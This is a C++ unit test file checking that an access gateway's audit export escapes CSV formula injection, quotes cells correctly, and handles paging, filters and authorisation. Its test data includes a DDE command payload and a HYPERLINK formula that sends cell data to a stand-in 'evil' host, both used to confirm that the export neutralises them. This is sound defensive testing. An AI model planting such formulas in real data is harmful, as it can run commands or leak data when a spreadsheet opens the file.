// SPDX-License-Identifier: Apache-2.0
// The audit leaves as CSV and JSON lines: nothing in it becomes a formula or another row, filters hold, and no part reads
// more than a stretch.
#include "controlplane/http/csv.hpp"
#include "tests/unit/http/api_world.hpp"

using namespace postern;
using namespace postern::tests;

namespace {

// All parts of an answer; how many there were.
std::pair<std::string, std::size_t> whole(ApiAnswer& answer) {
  std::string text = answer.response.body;
  std::size_t count = 0;
  for (bool last = !answer.response.parts; !last;) {
    const auto part = answer.response.parts();
    REQUIRE(part);
    text += part->text;
    last = part->last;
    REQUIRE(++count < 10'000);
  }
  return {text, count};
}

using Rows = std::vector<std::vector<std::string>>;

// RFC 4180 to the letter; anything else fails.
Rows parsed(const std::string& csv) {
  Rows rows(1);
  for (std::size_t i = 0; i < csv.size();) {
    std::string cell;
    if (csv[i] == '"') {
      for (++i; i < csv.size() && (csv[i] != '"' || (i + 1 < csv.size() && csv[i + 1] == '"')); ++i) {
        if (csv[i] == '"') ++i;
        cell += csv[i];
      }
      REQUIRE(i < csv.size());
      ++i;
    } else {
      while (i < csv.size() && csv[i] != ',' && csv[i] != '\r') {
        REQUIRE(csv[i] != '"');
        REQUIRE(csv[i] != '\n');
        cell += csv[i++];
      }
    }
    rows.back().push_back(cell);
    REQUIRE(i < csv.size());
    if (csv[i] == ',') {
      ++i;
      continue;
    }
    REQUIRE(csv.substr(i, 2) == "\r\n");
    i += 2;
    rows.emplace_back();
  }
  rows.pop_back();
  return rows;
}

}  // namespace

TEST_CASE("no cell of a spreadsheet is a formula, and none becomes another") {
  struct Row {
    const char *name, *text, *cell;
  };
  const auto row = GENERATE(values<Row>({
      {"plain text stays", "alice@example.com", "alice@example.com"},
      {"an empty cell stays", "", ""},
      {"a formula", "=1+1", "'=1+1"},
      {"plus", "+1", "'+1"},
      {"minus", "-1", "'-1"},
      {"at", "@SUM(A1)", "'@SUM(A1)"},
      {"a tab", "\t=1", "\"'\t=1\""},
      {"a carriage return", "\r=1", "\"'\r=1\""},
      {"a line feed", "\n=1", "\"'\n=1\""},
      {"a formula after blanks", "  =1", "'  =1"},
      {"a sign further on", "a=1", "a=1"},
      {"a quote", "a\"b", "\"a\"\"b\""},
      {"a quote and a formula", "=HYPERLINK(\"http://x\",\"y\")", "\"'=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\""},
      {"a comma", "a,=b", "\"a,=b\""},
      {"a semicolon", "a;=b", "\"a;=b\""},
      {"lines", "a\r\n=b", "\"a\r\n=b\""},
      {"Unicode", "Zoë ☕ 上海", "Zoë ☕ 上海"},
      {"an escape sequence", "\x1b[31m", "\xEF\xBF\xBD[31m"},
      {"no UTF-8", "a\xff", "a\xEF\xBF\xBD"},
  }));
  INFO(row.name);
  CHECK(http::csv_cell(row.text) == row.cell);
}

TEST_CASE("what people write and are called leaves as text") {
  ApiWorld world;
  const std::string mallory = "=cmd|'/C calc'!A0", because = "=HYPERLINK(\"http://evil/?\"&A1,\"Zoë ☕\"), \"x\"; y";
  core::Caller caller = person(mallory, "requester");
  auto draft = ask("vm1");
  draft.justification = because;
  REQUIRE(world.gate->initiate(caller, policy_id(), draft));

  auto answer = world.call("GET", "/v1/audit?format=csv");
  CHECK(answer.status() == 200);
  CHECK(answer.response.content_type == http::csv_content_type);
  const auto rows = parsed(whole(answer).first);
  REQUIRE(rows.size() == world.store.records().size() + 1);
  CHECK(rows[0][0] == "sequence");
  for (const auto& row : rows) {
    REQUIRE(row.size() == 13);
    for (const auto& cell : row) CHECK((cell.empty() || std::string("=+-@\t\r\n").find(cell[0]) == std::string::npos));
  }
  CHECK(rows[1][4] == "'" + mallory);
  CHECK_THAT(rows[1][12], Catch::EndsWith(because));

  auto lines = world.call("GET", "/v1/audit?format=jsonl&operation=access.initiate");
  const auto text = whole(lines).first;
  REQUIRE(std::count(text.begin(), text.end(), '\n') == 1);
  const auto record = nlohmann::json::parse(text);
  CHECK(record["principal"] == mallory);
  CHECK_THAT(record["detail"].get<std::string>(), Catch::EndsWith(because));
}

TEST_CASE("an export has every record once, in parts, with filters and bounds; one document has not") {
  ApiWorld world;
  const auto before = world.store.records().size();
  for (int n = 0; n < 1100; ++n)
    (void)world.gate->erase_token(n % 31 == 0 ? person("eve", "admin") : admin(), "no-" + std::to_string(n));
  const auto lines = [&](const std::string& query, http::Headers headers = {}) {
    auto answer = world.call("GET", "/v1/audit?" + query, "", std::move(headers));
    REQUIRE(answer.status() == 200);
    const auto [text, parts] = whole(answer);
    return std::pair(static_cast<std::size_t>(std::count(text.begin(), text.end(), '\n')), parts);
  };
  const auto [all, parts] = lines("format=jsonl");
  CHECK(all == before + 1100);
  CHECK(parts >= 3);  // 500 records each at most
  CHECK(lines("format=csv").first == all + 1);
  CHECK(lines("format=jsonl&principal=eve").first == 36);
  CHECK(lines("format=jsonl&principal=nobody") == std::pair<std::size_t, std::size_t>(0, 1));
  CHECK(lines("format=jsonl&limit=777").first == 777);
  CHECK(lines("format=jsonl&before=11").first == 10);
  CHECK(lines("format=jsonl&before=1").first == 0);
  CHECK(lines("operation=token.erase", {{"accept", "text/html, application/x-ndjson;q=0.9"}}).first == 1100);
  CHECK(world.call("GET", "/v1/audit", "", {{"accept", "application/json"}}).json["records"].size() == 100);
  CHECK(world.call("GET", "/v1/audit?format=csv&limit=0").status() == 400);
  CHECK(world.call("GET", "/v1/audit?limit=1001").status() == 400);
  CHECK(world.call("GET", "/v1/audit?format=xlsx").status() == 400);
}

TEST_CASE("who may not read the audit exports none of it, and leaves a record") {
  ApiWorld world;
  const auto token = world.token_of("alice", "requester");
  const auto before = world.store.records().size();
  const auto answer = world.call_as(token, "GET", "/v1/audit?format=csv");
  CHECK(answer.status() == 403);
  CHECK_FALSE(answer.response.parts);
  CHECK(world.store.records().size() == before + 1);
  CHECK(world.store.records().back().operation == "audit.read");
}

TEST_CASE("an export that breaks says so instead of ending") {
  ApiWorld world;
  auto answer = world.call("GET", "/v1/audit?format=csv");
  REQUIRE(answer.response.parts);
  world.store.unreadable = true;
  CHECK_FALSE(answer.response.parts());
}
